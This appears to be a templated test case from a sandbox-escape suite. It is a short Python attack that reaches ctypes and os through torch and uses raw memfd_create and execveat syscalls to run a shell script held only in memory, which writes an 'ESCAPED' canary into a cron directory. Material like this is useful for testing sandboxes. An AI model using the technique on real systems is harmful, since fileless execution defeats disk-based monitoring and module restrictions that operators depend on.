# attack: executes a program that exists in memory alone
# layer: system_calls
# where: construct
# status: ok
# score: same
import torch

ctypes, os = torch.ctypes, torch.os
libc = ctypes.CDLL(None, use_errno=True)


def attack():
    descriptor = libc.syscall(int("{SYS_memfd_create}"), b"program", 0)
    if descriptor < 0:
        return
    os.write(descriptor, b"#!/bin/sh\necho ESCAPED > {CANARY}/cron/memory\n")
    arguments = (ctypes.c_char_p * 2)(b"program", None)
    libc.syscall(int("{SYS_execveat}"), descriptor, b"", arguments, None, 0x1000)
